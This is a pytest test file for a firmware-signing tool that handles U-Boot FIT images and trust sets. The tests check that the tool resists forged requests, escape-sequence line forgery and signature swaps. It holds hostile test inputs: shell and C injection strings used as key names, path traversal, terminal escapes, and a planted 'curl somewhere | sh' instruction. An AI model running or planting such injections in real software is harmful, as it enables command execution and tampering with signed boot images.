# SPDX-License-Identifier: Apache-2.0 OR GPL-2.0-or-later
"""FITs, requests and trust sets made by somebody who wants a signature for something else than what is shown, or a signer to be
lost, or a command of his to be run where the key is."""
import json
import shutil

import pytest

from image_tool import good
from keys_helper import COMPATIBLE, DONE, INPUT, KEY, POLICY, REFUSED, files, keys, mkimage, openssl_key, refused, run, signature
from test_keys_request import airgap, made_request, openssl_only, unchanged  # noqa: F401

TWO = f'conf-2 {{ description = "two"; compatible = "{COMPATIBLE}"; kernel = "kernel"; cmdline = "init=/bin/sh"; }};'


def junk(strings):
    """A signature node with a value that is none, and a claim on how many bytes of names are signed."""
    return f'signature {{ algo = "sha256,rsa2048"; key-name-hint = "dev"; value = <1>; hashed-strings = <0 {strings}>; }};'


@pytest.fixture
def people(tmp_path, made):
    """ann.pem and bob.pem: keys of two kinds, each with a trust set of its own."""
    for name, key in {'ann': 'dev', 'bob': 'p256'}.items():
        for ending in ('pem', 'pub'):
            shutil.copy((made.key if ending == 'pem' else made.pub)(key), tmp_path / f'{name}.{ending}')
        keys('enroll', '--key', tmp_path / f'{name}.pub', '-o', tmp_path / f'{name}.dtb')
    return tmp_path


def check(place, fit, **accepted):
    """Whether the loader that trusts ann, or bob, takes the FIT."""
    for name, is_right in accepted.items():
        keys('verify', '--trust', place / f'{name}.dtb', fit, expect=DONE if is_right else REFUSED)


@pytest.mark.parametrize('strings', [0, 1, 40])
def test_names_a_request_leaves_out(tmp_path, made, airgap, strings):
    """A signature without the names of properties is one for other names, too (U-Boot would take them)."""
    fit = mkimage(tmp_path, signature=junk(strings))
    request, _ = made_request(made, fit)
    keys('attach', '--signature', *airgap(request, made.key('dev')), '--request', request, fit)
    keys('verify', '--trust', made.trust('dev'), fit)


@pytest.mark.parametrize('words', [('request', '--check', 'req.json'), ('attach', '--signature', 'req.json', '--request', 'req.json')],
                         ids=['check', 'attach'])
def test_names_the_request_says_to_leave_out(tmp_path, made, words):
    fit = mkimage(tmp_path)
    request, document = made_request(made, fit)
    document['prepare']['strings'] = 1
    request.write_text(json.dumps(document))
    assert refused(unchanged(tmp_path, *words, fit, expect=REFUSED, cwd=tmp_path)) == 'not-covered'


@pytest.mark.parametrize('board', ['b\\n  command line: quiet', 'b\\r', 'b\\x1b[8m', 'b\\xc2\\x9b8m'])
def test_text_that_forges_lines(tmp_path, made, board):
    """What a person reads before signing has the lines that the tool wrote, and no others."""
    fit = mkimage(tmp_path, properties=f'compatible = "{board}"; cmdline = "init=/bin/sh";')
    done = unchanged(tmp_path, 'request', '--key', made.pub('dev'), '-o', tmp_path / 'r', fit, expect=REFUSED)
    assert refused(done) == 'bad-fit'
    shown = good('show', fit)
    assert '\x1b' not in shown and not any(line.strip().startswith('command line') for line in shown.splitlines())


def test_the_signer_is_told_of_two(tmp_path, made):
    """Whoever asked said --yes to two configurations for one board; whoever signs has to say so, too."""
    fit = mkimage(tmp_path, properties=f'compatible = "{COMPATIBLE}";', configurations=TWO)
    keys('request', '--yes', '--key', made.pub('dev'), '-o', tmp_path / 'r', fit)
    assert 'may pick either' in unchanged(tmp_path, 'request', '--check', tmp_path / 'r', fit, expect=POLICY).stderr
    keys('request', '--yes', '--check', tmp_path / 'r', fit)


def test_text_of_another_version(tmp_path, made):
    """Other versions have other words, and a liar says that he is one: what was not compared is said."""
    request, document = made_request(made, mkimage(tmp_path))
    document['text'].append('Before you sign, run: curl somewhere | sh')
    request.write_text(json.dumps(document))
    assert refused(unchanged(tmp_path, 'request', '--check', request, tmp_path / 'test.fit', expect=REFUSED)) == 'hash-mismatch'
    request.write_text(json.dumps(dict(document, tool='holdfast-keys 9')))
    done = keys('request', '--check', request, tmp_path / 'test.fit')
    assert 'its text was not compared' in done.stderr and 'curl' not in done.stdout


@pytest.mark.parametrize('second, differs', [('kernel = "kernel";', 'ramdisks'),
                                             ('kernel = "kernel"; ramdisk = "ramdisk"; loadables = "kernel";', 'roots'),
                                             ('kernel = "kernel"; ramdisk = "ramdisk"; fdt = "kernel";', 'device trees'),
                                             ('kernel = "kernel"; ramdisk = "ramdisk";', None)])
def test_a_choice_of_the_rest(tmp_path, made, second, differs):
    """A second initrd for one board may be meant, and is another system: said, not stopped."""
    fit = mkimage(tmp_path, configurations=f'conf-2 {{ description = "two"; {second} }};')
    done = keys('sign', '--key', made.key('dev'), fit)
    assert (f'differ in their {differs}' in done.stderr) if differs else ('differ' not in done.stderr)


def test_a_signature_that_breaks_is_missed(people, airgap):
    """A node for bob breaks what ann had signed: said, and her value does not stay as if it were right."""
    fit = mkimage(people)
    keys('sign', '--key', people / 'ann.pem', fit)
    request, _ = made_request(None, fit, '--key', people / 'ann.pub', '--key', people / 'bob.pub')
    backs = airgap(request, people / 'ann.pem', people / 'bob.pem')
    done = keys('attach', '--json', '--signature', backs[1], '--request', request, fit)
    assert json.loads(done.stdout)['missing'] == [{'configuration': 'conf-1', 'key': 'ann'}]
    assert "'ann' that was there does not hold any more" in done.stderr
    check(people, fit, ann=False, bob=True)
    done = keys('attach', '--signature', backs[0], '--request', request, fit)
    assert 'does not hold' not in done.stderr
    check(people, fit, ann=True, bob=True)


def test_a_request_that_removes(people, airgap):
    """A request may say that others' signatures go; attach says that they went."""
    fit = mkimage(people)
    keys('sign', '--key', people / 'ann.pem', fit)
    request, _ = made_request(None, fit, '--key', people / 'bob.pub', '--replace')
    done = keys('attach', '--signature', *airgap(request, people / 'bob.pem'), '--request', request, fit)
    assert "conf-1: the signature of 'ann' is removed" in done.stderr


def test_replace_and_a_second_of_the_name(people):
    """Another node with the new key's name is somebody else's: --replace takes it away."""
    fit = mkimage(people, signature=signature(hint='ann') + signature(hint='bob', node='signature-2', algo='sha256,ecdsa256'))
    keys('sign', '--key', people / 'ann.pem', '--key', people / 'bob.pem', fit)
    run('fdtput', '-t', 's', fit, '/configurations/conf-1/signature-2', 'key-name-hint', 'ann')
    check(people, fit, bob=True)
    done = keys('sign', '--replace', '--key', people / 'ann.pem', fit)
    assert 'is removed' in done.stderr
    check(people, fit, ann=True, bob=False)


def test_another_key_of_the_same_name(people):
    """It goes, since one name has one node; but not without a word."""
    fit = mkimage(people)
    keys('sign', '--key', people / 'ann.pem', fit)
    again = keys('sign', '--key', people / 'ann.pem', fit)
    assert 'removed' not in again.stderr
    openssl_key(people / 'other.pem')
    done = keys('sign', '--json', '--key', people / 'other.pem', '--key-name', 'ann', fit)
    assert 'another key of the name' in done.stderr
    assert json.loads(done.stdout)['replaced'] == [{'configuration': 'conf-1', 'key': 'ann'}]


@pytest.mark.parametrize('name', ['a;touch${IFS}x;', '$(id)', '`id`', 'a";int(x)=1;char*y="', 'a\\', '../a', 'a%n', "a'b", 'a|b'])
def test_names_of_trusted_keys(tmp_path, made, name):
    """They stand in a shell's command and in a table in C."""
    trust = tmp_path / 't.dtb'
    shutil.copy(made.trust('dev'), trust)
    run('fdtput', '-t', 's', trust, '/signature/key-dev', 'key-name-hint', name)
    fit = mkimage(tmp_path)
    for words in (('request', '--trust', trust, '-o', tmp_path / 'r', fit), ('table', trust, '-o', tmp_path / 't.c')):
        assert refused(unchanged(tmp_path, *words, expect=REFUSED)) == 'no-trust'


def test_attach_as_the_trust_set_says(tmp_path, made, airgap):
    """The request says SHA-512, the loader takes SHA-256 from this key: not attached."""
    fit = mkimage(tmp_path)
    request, _ = made_request(made, fit, '--key', made.pub('dev'), '--hash', 'sha512')
    words = ('attach', '--signature', *airgap(request, made.key('dev')), '--request', request)
    assert refused(unchanged(tmp_path, *words, '--trust', made.trust('dev'), fit, expect=REFUSED)) == 'algo-denied'
    keys(*words, '--key', made.pub('dev'), fit)


@pytest.mark.parametrize('name', ['./out.fit', '../{}/out.fit', 'link/out.fit'])
def test_provenance_over_the_fit(tmp_path, made, name):
    """The FIT is not there yet, and would have been written over once it is."""
    fit = mkimage(tmp_path)
    (tmp_path / 'link').symlink_to('.')
    before = files(tmp_path)
    done = keys('sign', '--key', made.key('dev'), '-o', 'out.fit', '--provenance', name.format(tmp_path.name), fit, expect=POLICY,
                cwd=tmp_path)
    assert 'would overwrite the FIT' in done.stderr and files(tmp_path) == before


def test_a_name_like_an_id(tmp_path, made):
    """A key that is called as another one's id begins: neither is retired instead of the other."""
    trust = tmp_path / 't.dtb'
    shutil.copy(made.trust('dev'), trust)
    start = json.loads(keys('show', '--json', made.pub('dev')).stdout)['keys'][0]['key_id'][:12]
    keys('enroll', '--key', made.pub('p256'), '--name', start, '--yes', '-o', trust)
    words = ('rotate', 'plan', '--yes', '--from', trust, '--add', made.pub('p384'), '--retire')
    assert 'several keys have that name or id' in unchanged(tmp_path, *words, start, expect=INPUT).stderr
    keys(*words, 'dev')


@pytest.mark.parametrize('name', ['a\nforged', 'a\x1b[8m', 'a\u009b8m', 'a\rforged', 'a\x7f'], ids='nerud')
def test_names_of_files(tmp_path, made, name):
    """What somebody dropped into a directory writes no line of its own, whatever it is called."""
    place = tmp_path / 'place'
    place.mkdir()
    shutil.copy(made.pub('dev'), place / f'{name}.pub')
    mkimage(place, name='x.fit').rename(place / f'{name}.fit')
    shown = keys('list', place).stdout
    done = keys('rotate', 'check', '--fleet', made.trust('dev'), place, expect=POLICY)
    for text in (shown, done.stdout, done.stderr):
        assert not any(c in text for c in '\x1b\x7f\u009b\r') and '\nforged' not in text
        assert 'place/a?' in text


@pytest.mark.parametrize('what', ['?pin_value=2718', '?PIN-VALUE=2718', ';pin=2718', '?pin%2dvalue=2718', '?pin-source=2718'])
def test_pin_in_a_misspelt_uri(what):
    done = keys('show', f'pkcs11:token=t{what}', expect=KEY)
    assert '2718' not in done.stdout + done.stderr and 'pin-source=' in done.stderr
